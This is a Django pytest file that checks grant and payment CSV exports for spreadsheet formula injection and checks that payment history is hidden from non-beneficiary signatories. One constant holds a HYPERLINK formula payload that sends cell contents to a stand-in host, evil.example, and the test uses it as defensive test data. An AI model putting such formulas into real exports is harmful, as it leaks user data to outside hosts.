"""Exports that cannot execute and a history that shows no more than the pages (security review M1, M4)."""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse

from apps.network.models import Grant

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'


@pytest.mark.parametrize("name", ["network:grants_csv", "network:payments_csv"])
def test_finance_exports_neutralise_a_structure_named_as_a_formula(client, signed_41, ml_blaisois, region_admin, name):
    ml_blaisois.name = HYPERLINK
    ml_blaisois.siret = "-1+1"
    ml_blaisois.save()
    client.force_login(region_admin)
    text = client.get(reverse(name)).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HYPERLINK in cells and "'-1+1" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_amounts_stay_numbers_in_the_finance_export(client, signed_41, region_admin):
    client.force_login(region_admin)
    text = client.get(reverse("network:grants_csv")).content.decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert row[6:9] == ["10,01", "10,01", "20,02"]


def test_a_signatory_that_is_not_the_beneficiary_sees_no_grant_in_the_history(
    client, signed_41, cio_member, region_admin, ml_blaisois
):
    grant = Grant.objects.get(convention=signed_41)
    payment = grant.payments.first()
    payment.reference = "MANDAT-2027-00042"
    payment.paid_on = date(2026, 12, 1)
    payment.save()
    client.force_login(cio_member)
    assert client.get(reverse("network:grant", args=[grant.pk])).status_code == 403
    html = client.get(reverse("network:convention", args=[signed_41.pk])).content.decode()
    assert "MANDAT-2027-00042" not in html
    assert "versé le" not in html and "forfait" not in html.lower()
    client.force_login(region_admin)
    html = client.get(reverse("network:convention", args=[signed_41.pk])).content.decode()
    assert "MANDAT-2027-00042" in html
